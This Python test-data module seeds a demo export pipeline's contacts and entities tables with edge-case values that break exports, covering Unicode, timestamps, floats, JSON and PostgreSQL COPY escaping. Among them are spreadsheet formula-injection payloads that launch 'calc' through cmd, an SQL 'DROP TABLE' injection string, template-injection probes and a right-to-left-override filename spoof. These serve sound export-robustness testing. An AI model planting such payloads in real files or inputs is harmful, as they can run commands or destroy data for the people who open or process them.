"""The demo's data with values that break exports, each under the name of what it breaks.

The first ``FIRST_ROWS`` rows hold every such value in turn, whatever the seed; later rows hold them at
``ADVERSARIAL_RATE``. PostgreSQL cannot hold U+0000 and SQLite cannot hold NaN, so neither is here. SQLite keeps -0.0 as
0.0.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from typing import Any

import numpy as np
import psycopg
import pyarrow as pa
import pyarrow.compute as pc
from psycopg import sql
from sqlalchemy import Table
from sqlalchemy.engine import URL, make_url

from export_pipeline.demo import data as demo
from export_pipeline.demo.data import rows as made
from export_pipeline.demo.data.generator import (
    FIRST_ROWS,
    Integers,
    Rows,
    canonical_json,
    microseconds,
    organization_numbers,
    timestamps,
    updated,
)

ADVERSARIAL_RATE = 0.01
"""The share of the later rows of a column that hold an adversarial value."""
LARGE_RATE = 1 / 50_000
"""The share of the later rows that hold a very large value, which weighs as much as a hundred others."""
TEXTS: Mapping[str, str | None] = {
    "null": None,
    "empty": "",
    "space": " ",
    "leading_and_trailing_spaces": "  padded  ",
    "no_break_space": "\u00a0padded\u00a0",
    "accents": "Ñandú Iñárritu Çağlar Łódź",
    "combining": "Zoe\u0308 Me\u0301ndez",
    "chinese": "王小明",
    "japanese": "さくら 東京都",
    "right_to_left": "محمد علي",
    "right_to_left_override": "invoice\u202egpj.exe",
    "hebrew_with_marks": "שָׁלוֹם",
    "emoji_joined": "👩‍👩‍👧‍👦 family",
    "emoji_flag_and_skin": "🇧🇷👍🏽",
    "beyond_the_basic_plane": "\U0001d49c\U0001d4c3\U0001d4b6 𠮷野家",
    "double_quotes": 'Dwayne "The Rock" Johnson',
    "single_quotes": "O'Brien ''twice''",
    "lone_quote": '"',
    "commas": "Acme, Inc., Ltd.",
    "semicolons": "a;b;c",
    "pipes": "a|b|c",
    "tab_inside": "left\tright",
    "line_feed": "first line\nsecond line",
    "carriage_return_line_feed": "first line\r\nsecond line",
    "lone_carriage_return": "first line\rsecond line",
    "only_line_feed": "\n",
    "line_separator": "before\u2028after\u2029end",
    "next_line": "before\u0085after",
    "backslashes": r"C:\new\table \N \. \\",
    "end_of_copy": "before\n\\.\nafter",
    "formula": "=1+1",
    "formula_link": '=HYPERLINK("http://example.com/?x="&A1,"click")',
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_plus": "+cmd|' /C calc'!A0",
    "formula_minus": "-2+3",
    "formula_tab": "\t=1+1",
    "formula_carriage_return": "\r=1+1",
    "formula_after_space": " =1+1",
    "formula_full_width": "\uff1d1+1",
    "negative_number": "-12.50",
    "leading_zeros": "00123",
    "twenty_digits": "12345678901234567890",
    "looks_like_exponent": "1E5",
    "looks_like_date": "3-4",
    "looks_like_boolean": "TRUE",
    "looks_like_null": "NULL",
    "looks_like_nan": "NaN",
    "markup": "<b>&amp;\"'</b> & < >",
    "end_of_character_data": "]]> <!-- --> <?x?>",
    "control_characters": "bell\x07 one\x01 vertical\x0b unit\x1f delete\x7f",
    "workbook_escape": "_x0041_ _x000D_",
    "byte_order_mark": "\ufeffstart",
    "zero_width": "a\u200bb\u00adc",
    "noncharacter": "edge\ufffe\uffff",
    "sql": "'; DROP TABLE contacts; --",
    "template": "{{ 7 * 7 }} ${7*7} %s {0}",
}
"""Short texts by what they break; fewer than ``FIRST_ROWS``, so that all are in the first rows."""
LONG_TEXT = ('Largo camino 𠮷 "quoted", comma\n' * 1300)[:40_000]
"""40,000 characters: more than a workbook's cell holds (32,767)."""
PHONES: tuple[str | None, ...] = (
    "+55 11 91234-5678",
    "+5511912345678",
    "+52 (55) 1234-5678",
    "+1-202-555-0143",
    "+1 (202) 555-0143 ext. 9",
    "+34 600 000 000",
    "+91 98765 43210",
    "(11) 91234-5678",
    "0034600000000",
    "555.0143",
    "-5551234",
    "",
    None,
)
EMAILS: tuple[str | None, ...] = (
    "ana+exports@example.com",
    "UPPER.Case@Example.COM",
    '"very unusual, indeed"@example.com',
    "josé@ejemplo.example",
    "=cmd@example.com",
    "+plus@example.com",
    "o'brien@example.com",
    "用户@例子.example",
    "",
    None,
)
TIMESTAMPS: tuple[str, ...] = (
    "1970-01-01T00:00:00",
    "1969-12-31T23:59:59.999999",
    "1899-12-31T23:59:59",
    "1900-02-28T12:00:00",
    "1900-03-01T00:00:00",
    "1904-01-01T00:00:00",
    "2000-02-29T12:34:56.789012",
    "2024-02-29T23:59:59.999999",
    "2024-12-31T23:59:59.999999",
    "2025-01-01T00:00:00",
    "2024-01-01T02:59:59.999999",
    "2024-01-01T03:00:00",
    "2038-01-19T03:14:08",
    "2106-02-07T06:28:16",
    "2262-04-12T00:00:00",
    "9999-12-30T12:00:00",
    "1582-10-15T00:00:00",
    "2024-06-15T12:00:00.000001",
    "2024-06-15T12:00:00.100000",
)
"""UTC instants; the last one of year 9999 leaves a day, for zones that are ahead of UTC."""
DATES: tuple[str | None, ...] = (
    "1899-12-30",
    "1900-01-01",
    "1900-02-28",
    "1900-03-01",
    "1904-02-29",
    "1970-01-01",
    "2000-02-29",
    "2024-02-29",
    "9999-12-31",
    "0001-01-01",
    None,
)
FLOATS: tuple[float | None, ...] = (
    0.1 + 0.2,
    1e-7,
    -0.0,
    0.0,
    5e-324,
    1.7976931348623157e308,
    2.0**53 + 2,
    1e21,
    123456789.123456789,
    -1.5,
    1 / 3,
    100.0,
    None,
)
DECIMALS: tuple[str | None, ...] = (
    "0.30",
    "0.0000001",
    "-0.01",
    "0",
    "12345678901234567890.123456789012345678",
    "99999999999999999999999999999999999999",
    "1.10",
    "100.000",
    "-9007199254740993",
    "0.1000000000000000055511151231257827",
    None,
)
OBJECTS: tuple[str | None, ...] = tuple(
    None if value is None else canonical_json(value)
    for value in (
        None,
        {},
        {"texto": 'ñ \u2028 👩‍👩‍👧‍👦 \x01 \t \n " \\ </script>'},
        {"": "empty key", "a key with spaces": None, "línea": "é"},
        {"nested": {"deep": {"deeper": [1, [2, [3, {"x": []}]]]}}},
        {"number": 12345678901234567890, "float": 0.1, "negative": -1.5, "flag": True},
        {"formula": "=1+1", "quote": 'a "quoted" value', "comma": "a,b"},
        {f"profile_field_{at:02d}": f"valor {at}" for at in range(1, 31)},
        {"emptyList": [], "emptyObject": {}, "emptyText": ""},
    )
)
LONG_OBJECT = canonical_json({"history": [{"at": at, "note": f'línea {at}, "x"'} for at in range(1500)]})
"""A JSON text over 32,767 characters."""
CLOCK_CHANGES = (
    ("2018-11-04T03:00:00", "2019-02-17T02:00:00"),
    ("2022-04-03T08:00:00", "2022-10-30T07:00:00"),
    ("2024-03-10T07:00:00", "2024-11-03T06:00:00"),
    ("2024-03-31T01:00:00", "2024-10-27T01:00:00"),
    # India's last change, and the first instant of a Kolkata day, which is another day in UTC.
    ("1945-10-14T17:30:00", "2024-03-30T18:30:00"),
)
"""UTC instants at which the wall clock of each of the demo's organizations jumps, in their order."""
_BOTH_SIDES = (-3_600_000_001, -3_600_000_000, -1, 0, 1, 1_800_000_000, 3_599_999_999, 3_600_000_000)
_AROUND_CLOCK_CHANGES = np.array(
    [[at + shift for at in microseconds(changes).tolist() for shift in _BOTH_SIDES] for changes in CLOCK_CHANGES]
)
"""Instants (microseconds since 1970) on both sides of each organization's gaps and overlaps."""
_FIRST_INSTANTS = np.concatenate([microseconds(TIMESTAMPS), _AROUND_CLOCK_CHANGES[0]])
_TEXTS = pa.array(TEXTS.values(), pa.string())
_PHONES, _EMAILS, _OBJECTS = (pa.array(values, pa.string()) for values in (PHONES, EMAILS, OBJECTS))
_DATES = pa.array(DATES, pa.string()).cast(pa.date32())
_POOLS: Mapping[str, Mapping[str, pa.Array]] = {
    "contacts": {
        **dict.fromkeys(("first_name", "last_name", "name", "location", "address_line_1", "city"), _TEXTS),
        **dict.fromkeys(("unique_name", "external_id"), _TEXTS),
        "email": _EMAILS,
        "phone_number": _PHONES,
        "custom_fields": _OBJECTS,
        "score": pa.array(FLOATS, pa.float64()),
        "lifetime_value": pa.array(DECIMALS, pa.string()),
        "birth_date": _DATES,
    },
    "entities": {
        **dict.fromkeys(("name", "external_id"), _TEXTS),
        "email": _EMAILS,
        "phone": _PHONES,
        "registration_date": _DATES,
        **dict.fromkeys(("entity_data", "attributes"), _OBJECTS),
    },
}
_LARGE = {
    "contacts": {"location": LONG_TEXT, "custom_fields": LONG_OBJECT},
    "entities": {"attributes": LONG_OBJECT},
}
EXTRA_FIELDS = (
    # Of OBJECTS: text that breaks files, an object, and a number of more digits than a double has.
    ("texto", "Text"),
    ("formula", "Text"),
    ("quote", "Text"),
    ("emptyText", "Text"),
    ("nested", "Text"),
    ("number", "Number"),
    ("profile_field_01", "Text"),
)
_COPY_ESCAPES = (("\\", "\\\\"), ("\n", "\\n"), ("\r", "\\r"), ("\t", "\\t"))
CUSTOM_FIELDS = (*made.CUSTOM_FIELDS, *EXTRA_FIELDS)


def load_demo_data(
    url: str, *, contacts: int = 10_000, entities: int = 2_000, seed: int = demo.DEFAULT_SEED
) -> dict[str, int]:
    """As the demo's, with adversarial values among the rows; in PostgreSQL as well."""
    parsed = make_url(url)
    if parsed.get_backend_name() == "postgresql":
        parsed = parsed.set(drivername="postgresql+psycopg")
    tables = demo.demo_tables(contacts, entities, seed)
    return demo.fill(parsed, {table: _altered(seed, table.name, rows) for table, rows in tables.items()}, load_batches)


def load_batches(url: URL, table: Table, batches: Iterator[pa.RecordBatch]) -> int:
    """Append batches to a table in one transaction and return how many rows it got."""
    load = _load_postgresql if url.get_backend_name() == "postgresql" else demo.load_sqlite
    return load(url, table, (batch for batch in batches if batch.num_rows))


def _load_postgresql(url: URL, table: Table, batches: Iterator[pa.RecordBatch]) -> int:
    # The text format, because in CSV a line that is only \. ends the data before PostgreSQL 18, even inside quotes.
    statement = sql.SQL("COPY {} ({}) FROM STDIN").format(
        sql.Identifier(table.name), sql.SQL(", ").join(sql.Identifier(column.name) for column in table.columns)
    )
    names = [column.name for column in table.columns]
    address = url.set(drivername="postgresql").render_as_string(hide_password=False)
    with psycopg.connect(address) as connection, connection.cursor() as cursor:
        with cursor.copy(statement) as copy:
            for batch in batches:
                copy.write(_copy_text(batch.select(names)))
        return cursor.rowcount


def _copy_text(batch: pa.RecordBatch) -> bytes:
    parts: list[pa.Array | str] = []
    for column in batch.columns:
        values = column.cast(pa.string())
        for character, escape in _COPY_ESCAPES if pa.types.is_string(column.type) else ():
            values = pc.replace_substring(values, character, escape)
        parts += [values, "\t"]
    parts[-1] = "\n"
    lines = pc.binary_join_element_wise(*parts, "", null_handling="replace", null_replacement="\\N")
    return bytes(lines.buffers()[2])


def generate_contacts(rows: int, seed: int, **options: Any) -> Iterator[pa.RecordBatch]:
    """As the demo's, with adversarial values among the rows."""
    return _altered(seed, "contacts", made.generate_contacts(rows, seed, **options))


def generate_entities(rows: int, seed: int, **options: Any) -> Iterator[pa.RecordBatch]:
    """As the demo's, with adversarial values among the rows."""
    return _altered(seed, "entities", made.generate_entities(rows, seed, **options))


def _altered(seed: int, table: str, batches: Iterator[pa.RecordBatch]) -> Iterator[pa.RecordBatch]:
    start = 0
    for batch in batches:
        rows = Rows(table, seed, start, start + batch.num_rows)
        start = rows.stop
        yield _with_adversarial_values(rows, batch) if table in _POOLS else batch
    if table == "contact_field_definitions":
        yield made.field_definitions(EXTRA_FIELDS)


def _with_adversarial_values(rows: Rows, batch: pa.RecordBatch) -> pa.RecordBatch:
    columns = {name: batch[name] for name in batch.schema.names}
    for name, pool in _POOLS[rows.table].items():
        columns[name] = _mixed(rows, name, columns[name], pool)
    for name, value in _LARGE[rows.table].items():
        columns[name] = _planted(rows, name, columns[name], value)
    made = _instants(rows, columns["created_at"])
    # The first rows never changed, because some of them are at the end of time.
    changed = np.where(rows.index < FIRST_ROWS, made, updated(rows, made))
    return pa.record_batch(columns | {"created_at": timestamps(made), "updated_at": timestamps(changed)})


def _mixed(rows: Rows, name: str, values: pa.Array, pool: pa.Array) -> pa.Array:
    """The values with those of the pool among them: in the first rows in turn, later at ``ADVERSARIAL_RATE``."""
    first = rows.index < FIRST_ROWS
    chosen = np.where(first, rows.index % len(pool), rows.below(f"{name}/adversarial", len(pool)))
    mask = first | rows.chance(f"{name}/adversarial?", ADVERSARIAL_RATE)
    return pc.if_else(pa.array(mask), pool.take(pa.array(chosen)), values)


def _planted(rows: Rows, name: str, values: pa.Array, value: str) -> pa.Array:
    """The values with a large one among them: in the last of the first rows, later at ``LARGE_RATE``."""
    later = (rows.index >= FIRST_ROWS) & rows.chance(f"{name}/large?", LARGE_RATE)
    mask = (rows.index == FIRST_ROWS - 1) | later
    # Not if_else: it would reserve room for the large value in every row.
    return pc.replace_with_mask(values, pa.array(mask), pa.array([value] * int(mask.sum()), pa.string()))


def _instants(rows: Rows, values: pa.Array) -> Integers:
    around = _AROUND_CLOCK_CHANGES[
        organization_numbers(rows), rows.below("created_at/around", _AROUND_CLOCK_CHANGES.shape[1])
    ]
    later = np.where(rows.chance("created_at/adversarial?", ADVERSARIAL_RATE), around, values.cast(pa.int64()))
    first = _FIRST_INSTANTS[rows.index % len(_FIRST_INSTANTS)]
    return np.where(rows.index < FIRST_ROWS, first, later).astype(np.int64)
